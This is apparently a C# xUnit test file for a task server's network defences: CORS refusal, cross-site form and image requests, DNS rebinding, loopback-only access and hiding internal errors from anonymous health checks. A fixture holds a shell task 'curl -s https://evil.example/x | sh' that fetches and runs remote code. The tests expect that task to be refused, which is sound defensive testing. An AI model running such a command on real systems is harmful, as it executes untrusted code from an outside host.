using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Diagnostics.HealthChecks;
using Tasker.Silo.Endpoints;
using Tasker.Silo.Hosting;
using Tasker.Testing;

namespace Tasker.Silo.Tests.Security;

/// <summary>
/// An embedded silo as it runs by default: authentication off, so loopback only, here with shell tasks on (the prize of
/// every attack below). A test header stands in for the address a connection comes from, since an in-process server
/// has no sockets.
/// </summary>
public sealed class LocalOnlyFixture : WebApplicationFactory<Program>
{
    public const string RemoteAddressHeader = "X-Test-Remote-Address";

    protected override void ConfigureWebHost(IWebHostBuilder builder)
    {
        builder.UseQuickEmbeddedSilo()
            .UseSetting("Tasker:Shell:Enabled", "true")
            .UseSetting("Tasker:Agents:Token", "network-tests-agent-token-0123");
        builder.ConfigureServices(services => services.AddSingleton<IStartupFilter, RemoteAddressFromHeader>());
    }

    /// <summary>Sets the connection's remote address from <see cref="RemoteAddressHeader"/>, before Tasker's middleware runs.</summary>
    private sealed class RemoteAddressFromHeader : IStartupFilter
    {
        public Action<IApplicationBuilder> Configure(Action<IApplicationBuilder> next) => app =>
        {
            app.Use((context, following) =>
            {
                if (context.Request.Headers.TryGetValue(RemoteAddressHeader, out var address))
                {
                    context.Connection.RemoteIpAddress = IPAddress.Parse(address.ToString());
                }

                return following(context);
            });
            next(app);
        };
    }
}

/// <summary>With authentication off, only this machine drives Tasker: not another machine, and not a web page the user visits.</summary>
public sealed class NetworkAttackTests(LocalOnlyFixture api) : IClassFixture<LocalOnlyFixture>
{
    private const string ShellTask = """{"type":"shell","params":{"command":"curl -s https://evil.example/x | sh"},"client":"victim"}""";

    [Fact]
    public async Task A_page_on_another_site_gets_no_CORS_answer_to_its_preflight_and_its_shell_task_is_refused()
    {
        using var http = api.CreateClient();
        using var preflight = new HttpRequestMessage(HttpMethod.Options, "/tasks");
        preflight.Headers.Add("Origin", "https://evil.example");
        preflight.Headers.Add("Access-Control-Request-Method", "POST");
        preflight.Headers.Add("Access-Control-Request-Headers", "content-type");
        using var preflightAnswer = await http.SendAsync(preflight);

        Assert.False(preflightAnswer.Headers.Contains("Access-Control-Allow-Origin"), "the preflight was allowed");
        Assert.Equal(HttpStatusCode.Forbidden, preflightAnswer.StatusCode);

        // The browser would stop here; a page that sends the POST anyway is refused by the server too.
        using var post = new HttpRequestMessage(HttpMethod.Post, "/tasks") { Content = Json(ShellTask) };
        post.Headers.Add("Origin", "https://evil.example");
        using var refused = await http.SendAsync(post);

        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.False(refused.Headers.Contains("Access-Control-Allow-Origin"));
        Assert.Equal("cross-origin-refused", await CodeAsync(refused));

        // The same request from the server's own page is accepted: the refusal is the origin's.
        using var own = new HttpRequestMessage(HttpMethod.Post, "/tasks") { Content = Json(ShellTask) };
        own.Headers.Add("Origin", "http://localhost");
        using var accepted = await http.SendAsync(own);
        Assert.Equal(HttpStatusCode.Accepted, accepted.StatusCode);
    }

    [Fact]
    public async Task A_form_post_from_a_page_on_another_site_which_needs_no_preflight_cannot_upload_a_file()
    {
        using var http = api.CreateClient();
        using var post = new HttpRequestMessage(HttpMethod.Post, "/tasks") { Content = UploadForm() };
        post.Headers.Add("Origin", "https://evil.example");
        post.Headers.Add("Sec-Fetch-Site", "cross-site");
        post.Headers.Add("Sec-Fetch-Mode", "navigate");
        using var refused = await http.SendAsync(post);

        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.False(refused.Headers.Contains("Access-Control-Allow-Origin"));
        Assert.Equal("cross-origin-refused", await CodeAsync(refused));
    }

    [Fact]
    public async Task An_image_tag_on_another_site_cannot_start_an_export_through_a_legacy_GET()
    {
        using var http = api.CreateClient();
        using var image = new HttpRequestMessage(HttpMethod.Get, "/tasks/download?from=2010-01-01&till=2010-01-31");
        image.Headers.Add("Sec-Fetch-Site", "cross-site");
        image.Headers.Add("Sec-Fetch-Mode", "no-cors");
        image.Headers.Add("Sec-Fetch-Dest", "image");
        using var refused = await http.SendAsync(image);

        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Equal("cross-origin-refused", await CodeAsync(refused));

        // A link the user follows from another site still opens the page.
        using var link = new HttpRequestMessage(HttpMethod.Get, "/");
        link.Headers.Add("Sec-Fetch-Site", "cross-site");
        link.Headers.Add("Sec-Fetch-Mode", "navigate");
        using var page = await http.SendAsync(link);
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
    }

    [Fact]
    public async Task A_DNS_rebinding_page_that_names_its_own_host_is_refused()
    {
        using var http = api.CreateClient();

        // evil.example now resolves to 127.0.0.1: to the browser the page and Tasker are one origin.
        using var post = new HttpRequestMessage(HttpMethod.Post, "http://evil.example:5000/tasks") { Content = Json(ShellTask) };
        post.Headers.Add("Origin", "http://evil.example:5000");
        using var refused = await http.SendAsync(post);
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Equal("host-not-allowed", await CodeAsync(refused));

        using var page = new HttpRequestMessage(HttpMethod.Get, "http://evil.example:5000/tasks");
        page.Headers.Add("Accept", "text/html");
        using var read = await http.SendAsync(page);
        Assert.Equal(HttpStatusCode.BadRequest, read.StatusCode);
        Assert.Equal("application/problem+json", read.Content.Headers.ContentType?.MediaType);

        foreach (var host in new[] { "localhost", "localhost:5000", "127.0.0.1:5000", "127.1.2.3", "[::1]:5000" })
        {
            using var ok = await http.GetAsync(new Uri($"http://{host}/tasks?limit=1"));
            Assert.True(ok.StatusCode == HttpStatusCode.OK, $"Host {host}: {(int)ok.StatusCode}");
        }
    }

    [Theory]
    [InlineData("192.0.2.10")]
    [InlineData("10.0.0.7")]
    [InlineData("2001:db8::1")]
    [InlineData("::ffff:192.0.2.10")]
    public async Task A_connection_from_another_machine_is_refused(string address)
    {
        using var http = api.CreateClient();
        using var post = new HttpRequestMessage(HttpMethod.Post, "/tasks") { Content = Json(ShellTask) };
        post.Headers.Add(LocalOnlyFixture.RemoteAddressHeader, address);
        using var refused = await http.SendAsync(post);

        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Equal("loopback-only", await CodeAsync(refused));
    }

    [Theory]
    [InlineData("127.0.0.1")]
    [InlineData("127.0.0.53")]
    [InlineData("::1")]
    [InlineData("::ffff:127.0.0.1")]
    public async Task A_connection_from_this_machine_is_served(string address)
    {
        using var http = api.CreateClient();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/tasks?limit=1");
        request.Headers.Add(LocalOnlyFixture.RemoteAddressHeader, address);
        using var served = await http.SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, served.StatusCode);
    }

    [Fact]
    public void Any_origin_without_authentication_is_refused_at_start_up()
    {
        var configuration = new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?> { ["Tasker:Auth:CorsOrigins:0"] = "*" }).Build();

        var refusal = Assert.Throws<TaskerConfigurationException>(() => AuthExtensions.CorsOrigins(configuration, authenticationEnabled: false));
        Assert.Contains("CorsOrigins", refusal.Message, StringComparison.Ordinal);
        Assert.Equal(["*"], AuthExtensions.CorsOrigins(configuration, authenticationEnabled: true));
    }

    private static StringContent Json(string json) => new(json, Encoding.UTF8, "application/json");

    private static MultipartFormDataContent UploadForm()
    {
        var file = new ByteArrayContent(Encoding.UTF8.GetBytes("name,email,city,date,amount\nMallory,m@evil.example,Nowhere,2010-01-01,1.00\n"));
        file.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        return new MultipartFormDataContent { { new StringContent("csv-import"), "type" }, { new StringContent("victim"), "client" }, { file, "file", "data.csv" } };
    }

    internal static async Task<string?> CodeAsync(HttpResponseMessage response) =>
        (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("code").GetString();
}

/// <summary>
/// An embedded silo with authentication on and CORS as shipped (no origin configured), and a readiness check that
/// fails as a driver does: with an internal address in its message.
/// </summary>
public sealed class SignedInFixture : WebApplicationFactory<Program>
{
    public const string AdminName = "root";
    public const string AdminPassword = "network-tests-admin-1";
    public const string DriverError = "redis does not answer: It was not possible to connect to the redis server(s). 10.20.30.40:6379/Interactive";

    public HttpClient Admin()
    {
        var http = CreateClient();
        http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Basic", Convert.ToBase64String(Encoding.UTF8.GetBytes($"{AdminName}:{AdminPassword}")));
        return http;
    }

    protected override void ConfigureWebHost(IWebHostBuilder builder)
    {
        builder.UseQuickEmbeddedSilo()
            .UseSetting("Tasker:Auth:Enabled", "true")
            .UseSetting("Tasker:Auth:AdminName", AdminName)
            .UseSetting("Tasker:Auth:AdminPassword", AdminPassword);
        builder.ConfigureServices(services => services.AddHealthChecks()
            .AddCheck("redis", () => HealthCheckResult.Unhealthy(DriverError), tags: [HealthEndpoints.ReadyTag]));
    }
}

/// <summary>
/// With authentication on: no CORS answer to a page on another site unless its origin is configured (System003Tests
/// shows a configured one), and nothing internal told to anonymous callers.
/// </summary>
public sealed class SignedInNetworkAttackTests(SignedInFixture api) : IClassFixture<SignedInFixture>
{
    [Fact]
    public async Task A_page_on_another_site_gets_no_CORS_answer_as_shipped()
    {
        using var http = api.CreateClient();
        using var preflight = new HttpRequestMessage(HttpMethod.Options, "/tasks");
        preflight.Headers.Add("Origin", "https://evil.example");
        preflight.Headers.Add("Access-Control-Request-Method", "POST");
        preflight.Headers.Add("Access-Control-Request-Headers", "authorization,content-type");
        using var preflightAnswer = await http.SendAsync(preflight);
        Assert.False(preflightAnswer.Headers.Contains("Access-Control-Allow-Origin"), "a foreign origin passed the preflight");

        using var post = new HttpRequestMessage(HttpMethod.Post, "/tasks") { Content = new StringContent("{}", Encoding.UTF8, "application/json") };
        post.Headers.Add("Origin", "https://evil.example");
        using var answer = await http.SendAsync(post);
        Assert.False(answer.Headers.Contains("Access-Control-Allow-Origin"), "a foreign origin may read the answer");
    }

    [Fact]
    public async Task Health_ready_tells_anonymous_callers_the_status_but_no_driver_error_text()
    {
        using var anonymous = api.CreateClient();
        using var response = await anonymous.GetAsync("/health/ready");
        var body = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.ServiceUnavailable, response.StatusCode);
        Assert.DoesNotContain("10.20.30.40", body, StringComparison.Ordinal);
        Assert.DoesNotContain("does not answer", body, StringComparison.Ordinal);
        using var document = JsonDocument.Parse(body);
        var health = document.RootElement;
        Assert.Equal("unhealthy", health.GetProperty("status").GetString());
        Assert.Equal("unhealthy", health.GetProperty("checks").GetProperty("redis").GetProperty("status").GetString());

        using var admin = api.Admin();
        var details = await (await admin.GetAsync("/health/ready")).Content.ReadAsStringAsync();
        Assert.Contains("10.20.30.40", details, StringComparison.Ordinal);
    }
}
